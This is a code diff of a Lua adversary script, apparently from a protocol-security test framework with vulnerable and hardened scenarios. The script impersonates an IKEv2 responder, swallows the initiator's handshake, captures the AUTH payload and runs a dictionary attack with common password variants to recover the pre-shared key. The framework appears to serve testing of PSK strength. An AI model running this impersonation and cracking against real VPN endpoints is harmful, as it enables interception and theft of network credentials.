@@ -13,61 +13,19 @@ attack = {
   scenarios = { vulnerable = "psk-dictionary-weak", hardened = { "psk-dictionary", "psk-dictionary-certificates" } },
 }
 
+local answerer, secrets = library "answerer", library "secrets"
+local goal = "find the shared secret"
+
 -- Parameters: dictionary = "common"; each = 200 (tries in one go), pause = "10ms" (between them).
-local dictionary, each, pause
+local plan, search
+local dictionary         -- its words
+local variants = secrets.variants
 local trial              -- what AUTH is compared with, once it is there
-local me                 -- the adversary's half of the exchange: key pair, nonce, SPI, its answer
-local tried = 0
+local me                 -- the adversary's half of the exchange: keys, nonces, SPIs
 
 function on_start(params)
-  dictionary = words(params.dictionary or "common")
-  each = tonumber(params.each or "200")
-  pause = params.pause or "10ms"
-end
-
-local function find(message, type)
-  for _, payload in ipairs(message.payloads) do
-    if payload.type == type then return payload end
-  end
-end
-
--- One transform of each type, the first on offer: what any responder could have chosen.
-local function choose(proposal)
-  local chosen, seen = {}, {}
-  for _, t in ipairs(proposal.transforms) do
-    if not seen[t.type] then
-      seen[t.type] = true
-      chosen[#chosen + 1] = t
-    end
-  end
-  return { number = proposal.number, protocol = proposal.protocol, spi = "", transforms = chosen }
-end
-
--- IKE_SA_INIT as the responder would answer it, but with keys of ours.
-local function answer(p, message)
-  local proposal = choose(find(message, "SA").proposals[1])
-  local suite = ike.suite(proposal)
-  local ke = find(message, "KE")
-  local pair = crypto.key_pair({ id = ke.method })
-  me = { suite = suite, nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)), request = p.payload }
-  me.keys = ike.keys(suite, {
-    ni = find(message, "Ni/Nr").data, nr = me.nonce, shared = crypto.shared(pair, ke.data),
-    spi_i = message.spi_i, spi_r = me.spi,
-  })
-  local octets = ike.encode({
-    spi_i = message.spi_i, spi_r = me.spi, exchange = 34, response = true, initiator = false, message_id = 0,
-    payloads = {
-      { number = 33, proposals = { proposal } },
-      { number = 34, body = string.pack(">I2I2", pair.method, 0) .. pair.public },
-      { number = 40, body = me.nonce },
-      -- SIGNATURE_HASH_ALGORITHMS: without it an initiator with a certificate would not sign (RFC 7427, 4)
-      { number = 41, body = string.pack(">I1I1I2I2I2I2I2", 0, 0, 16431, 2, 3, 4, 5) },
-    },
-  })
-  learn("SK_ei, SK_er", "the keys of an IKE SA with " .. p.from .. ", which believes to talk to " .. p.to,
-    "a key exchange of its own with the initiator's KE payload", me.keys.sk_ei .. me.keys.sk_er)
-  inject{ src = p.dst, src_port = p.dst_port, dst = p.src, dst_port = p.src_port, protocol = "IKE", to = p.from,
-    payload = octets, note = "IKE_SA_INIT answered in the place of " .. p.to }
+  plan = secrets.plan(params)
+  dictionary = plan.words
 end
 
 -- IKE_AUTH: who the initiator is, and AUTH. From here on the work is done in silence.
@@ -79,58 +37,33 @@ local function take_auth(p)
   learn("identity", id.id_type_name .. " " .. id.data, "IDi is sent before the responder has shown who it is", id.data)
   if auth.method ~= 2 then
     learn("AUTH", "a signature (" .. auth.method_name .. "): no secret to try", "AUTH payload")
-    return achieved("find the shared secret", false, "the initiator signs: there is no shared secret to guess")
+    return achieved(goal, false, "the initiator signs: there is no shared secret to guess")
   end
   learn("AUTH", "made from the shared secret: each word can be tried against it", "AUTH payload", auth.data)
-  trial = {
-    at = 1, auth = auth.data, started = now(),
-    octets = ike.signed_octets(me.suite.prf, { message = me.request, nonce = me.nonce, sk_p = me.keys.sk_pi, id = id.body }),
-  }
-  timer.after("1ms", "try")
+  trial = { at = 1, auth = auth.data, octets = answerer.peer_octets(me, id) }
+  search = secrets.search(plan, {
+    vary = function(word) return variants(word) end,
+    fits = function(guess) return ike.psk_auth(me.suite.prf, guess, trial.octets) == trial.auth end,
+    found = function(guess, tried)
+      learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on AUTH", guess)
+      achieved(goal, true, "found at try " .. tried)
+    end,
+    none = function(tried) achieved(goal, false, "not one of " .. tried .. " secrets of the dictionary") end,
+  })
 end
 
--- A word as people vary it.
-local function variants(word)
-  local capital = word:sub(1, 1):upper() .. word:sub(2)
-  local list = { word, capital, word .. "1", capital .. "1", word .. "123", capital .. "123", word .. "!", capital .. "!" }
-  for year = 2020, 2026 do
-    list[#list + 1] = word .. year
-    list[#list + 1] = capital .. year
-  end
-  return list
-end
+function on_timer() search() end
 
-function on_timer()
-  local last = math.min(trial.at + math.max(1, each // 22) - 1, #dictionary)
-  for i = trial.at, last do
-    for _, guess in ipairs(variants(dictionary[i])) do
-      tried = tried + 1
-      if ike.psk_auth(me.suite.prf, guess, trial.octets) == trial.auth then
-        learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on AUTH", guess)
-        return achieved("find the shared secret", true, "found at try " .. tried)
-      end
-    end
-  end
-  trial.at = last + 1
-  if trial.at <= #dictionary then return timer.after(pause, "try") end
-  say(tried .. " tries, none fits")
-  achieved("find the shared secret", false, "not one of " .. tried .. " secrets of the dictionary")
-end
-
-function on_packet(p)
-  if p.protocol ~= "IKE" then return end
-  local message = ike.of(p)
-  if not message then return end
-  if message.response then return end
+on({ response = false }, function(p, message)
   if message.exchange_name == "IKE_SA_INIT" and not me then
     drop("the responder must not see it")
-    answer(p, message)
+    me = answerer.answer(p, message)
   elseif me and message.spi_r == me.spi then
     drop("meant for " .. p.to .. ", kept")
     if not me.asked and message.exchange_name == "IKE_AUTH" then take_auth(p) end
   end
-end
+end)
 
 function on_finish()
-  if not me then achieved("find the shared secret", false, "no handshake came by") end
+  if not me then achieved(goal, false, "no handshake came by") end
 end
